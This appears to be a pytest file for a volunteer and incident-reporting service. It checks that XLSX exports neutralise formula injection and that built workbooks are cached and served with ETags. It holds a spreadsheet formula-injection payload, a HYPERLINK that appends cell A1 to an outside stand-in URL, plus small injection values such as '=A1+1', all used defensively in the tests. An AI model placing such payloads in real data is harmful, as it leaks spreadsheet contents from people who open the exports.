"""Every XLSX export through HTTP: what a caller typed comes out as text, never a formula; a workbook is built
once for its figures and served from the service's store after that, with its key as the ETag."""
from __future__ import annotations

import io
import re
import uuid
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from prometheus_client import REGISTRY

from shared import spreadsheets
from tests.conftest import bearer, run_service, settings_for_test
from tests.service.conftest import LANSHAN_01, submit_report, upload_photo

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击查看")'
OFFICE = bearer("office", "office-1")
ASSOCIATION = bearer("association", "assoc-1")


def formulas_in(workbook: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return [found for name in archive.namelist() if name.startswith("xl/worksheets/")
                for found in re.findall(rb"<f[\s>/].*?</f>", archive.read(name))]


def builds(kind: str) -> float:
    """How many workbooks of `kind` this process has built (not served as stored)."""
    return REGISTRY.get_sample_value("woodpecker_spreadsheets_served_total", {"kind": kind, "source": "built"}) or 0


def stored_workbooks(service) -> int:
    return service.app.extensions["spreadsheets"].workbooks.count_documents({})


def assert_served_again_as_stored(service, path: str, headers: dict, first, kind: str) -> None:
    """Asking `path` again gives `first`'s bytes and ETag without building, and 304 to a caller who has it."""
    built, stored = builds(kind), stored_workbooks(service)
    again = service.client.get(path, headers=headers)
    assert again.status_code == 200
    assert (again.data, again.headers["ETag"]) == (first.data, first.headers["ETag"])
    assert (builds(kind), stored_workbooks(service)) == (built, stored)
    unchanged = service.client.get(path, headers={**headers, "If-None-Match": first.headers["ETag"]})
    assert (unchanged.status_code, unchanged.data, unchanged.headers["ETag"]) == (304, b"", first.headers["ETag"])


# --- the weekly grid summary (intake) ----------------------------------------------------------

WEEKLY = "/v1/grids/lanshan-01/weekly?format=xlsx"


def report(service, description: str) -> dict:
    reporter = bearer("volunteer")
    photo = upload_photo(service.client, reporter)["id"]
    return submit_report(service.client, reporter, [photo], description=description, location=LANSHAN_01)


def test_a_description_typed_as_a_formula_reaches_the_weekly_grid_workbook_as_text(fresh_intake):
    report(fresh_intake, HYPERLINK)

    response = fresh_intake.client.get(WEEKLY, headers=bearer("grid_leader", grid="lanshan-01"))

    assert response.status_code == 200
    assert formulas_in(response.data) == []
    cell = load_workbook(io.BytesIO(response.data))["本周上报明细"]["E2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HYPERLINK, "s", True)


def test_the_weekly_grid_workbook_is_built_once_for_its_figures(fresh_intake):
    report(fresh_intake, "人行道上停放多辆机动车")
    first = fresh_intake.client.get(WEEKLY, headers=OFFICE)
    assert first.status_code == 200 and first.headers["Cache-Control"] == "private, no-cache"
    assert stored_workbooks(fresh_intake) == 1

    # The grid's leader asks for the same figures: the office's workbook, not a new one.
    assert_served_again_as_stored(fresh_intake, WEEKLY, bearer("grid_leader", grid="lanshan-01"), first,
                                  "intake.weekly-grid")

    report(fresh_intake, "路灯不亮已经三天")
    changed = fresh_intake.client.get(WEEKLY, headers={**OFFICE, "If-None-Match": first.headers["ETag"]})
    assert changed.status_code == 200
    assert changed.headers["ETag"] != first.headers["ETag"] and changed.data != first.data
    assert stored_workbooks(fresh_intake) == 2


def test_a_stored_workbook_that_expired_is_dropped_and_built_again(fresh_intake):
    report(fresh_intake, "井盖缺失很危险")
    first = fresh_intake.client.get(WEEKLY, headers=OFFICE)
    cache = fresh_intake.app.extensions["spreadsheets"]
    later = datetime.now(UTC) + timedelta(seconds=fresh_intake.settings.spreadsheet_cache_s + 1)

    assert spreadsheets.drop_expired(cache.workbooks, datetime.now(UTC)) == 0
    assert spreadsheets.drop_expired(cache.workbooks, later) == 1

    built = builds("intake.weekly-grid")
    again = fresh_intake.client.get(WEEKLY, headers=OFFICE)
    assert again.data == first.data and builds("intake.weekly-grid") == built + 1


# --- the rankings (hours) ----------------------------------------------------------------------

def register(service, name: str, organization: str) -> str:
    body = {"name": name, "phone": f"139{uuid.uuid4().int % 10**8:08d}", "organization": organization,
            "grid_id": "lanshan-01"}
    response = service.client.post("/v1/volunteers", headers=ASSOCIATION, json=body)
    assert response.status_code == 201, response.json
    return response.json["id"]


def credit(service, volunteer_id: str, hours: float) -> None:
    response = service.client.post("/v1/adjustments", headers=ASSOCIATION,
                                   json={"volunteer_id": volunteer_id, "hours": hours, "reason": "补录纸质签到时长"})
    assert response.status_code == 201, response.json


RANKINGS = "/v1/rankings?format=xlsx"


def test_an_organization_and_a_name_typed_as_formulas_reach_the_rankings_workbook_as_text(fresh_hours):
    credit(fresh_hours, register(fresh_hours, "=A1+1", HYPERLINK), 4)

    response = fresh_hours.client.get(RANKINGS, headers=bearer("volunteer"))

    assert response.status_code == 200
    assert formulas_in(response.data) == []
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [(cell.value, cell.quotePrefix) for cell in sheet[4]][:3] == [(1, False), ("=***1", True),
                                                                        (HYPERLINK, True)]


@pytest.mark.parametrize("organization", [HYPERLINK, "+1+1"])
def test_an_organization_asked_for_by_a_formula_is_text_in_the_rankings_title(fresh_hours, organization):
    credit(fresh_hours, register(fresh_hours, "王小明", organization), 2)

    response = fresh_hours.client.get("/v1/rankings", headers=bearer("volunteer"),
                                      query_string={"format": "xlsx", "organization": organization})

    assert response.status_code == 200 and formulas_in(response.data) == []
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert organization in sheet["A1"].value
    assert (sheet["C4"].value, sheet["C4"].quotePrefix) == (organization, True)


def test_the_rankings_workbook_is_built_once_for_its_figures_whoever_asks(fresh_hours):
    volunteer_id = register(fresh_hours, "李四", "红马甲服务队")
    credit(fresh_hours, volunteer_id, 3)
    first = fresh_hours.client.get(RANKINGS, headers=bearer("volunteer"))
    assert first.status_code == 200

    # Another volunteer, and the office (who also sees volunteer ids, which the sheet does not print).
    assert_served_again_as_stored(fresh_hours, RANKINGS, bearer("volunteer"), first, "hours.ranking")
    assert_served_again_as_stored(fresh_hours, RANKINGS, OFFICE, first, "hours.ranking")

    credit(fresh_hours, volunteer_id, 1)
    changed = fresh_hours.client.get(RANKINGS, headers=bearer("volunteer"))
    assert changed.headers["ETag"] != first.headers["ETag"]
    assert load_workbook(io.BytesIO(changed.data)).active["E4"].value == 4
    assert stored_workbooks(fresh_hours) == 2


# --- the league tables (routing) ---------------------------------------------------------------

@pytest.fixture
def fresh_routing(amqp_url, mongo_url):
    service = run_service(settings_for_test("routing", amqp_url, mongo_url))
    yield service
    service.stop()


@pytest.mark.parametrize("path", ["/v1/stats/departments?from=2026-11-01T00:00:00Z&to=2026-12-01T00:00:00Z",
                                  "/v1/stats/grids?month=2026-11"])
def test_a_league_table_is_built_once_for_its_figures(fresh_routing, path):
    first = fresh_routing.client.get(f"{path}&format=xlsx", headers=OFFICE)
    assert first.status_code == 200 and formulas_in(first.data) == []

    assert_served_again_as_stored(fresh_routing, f"{path}&format=xlsx", OFFICE, first, "routing.league-table")
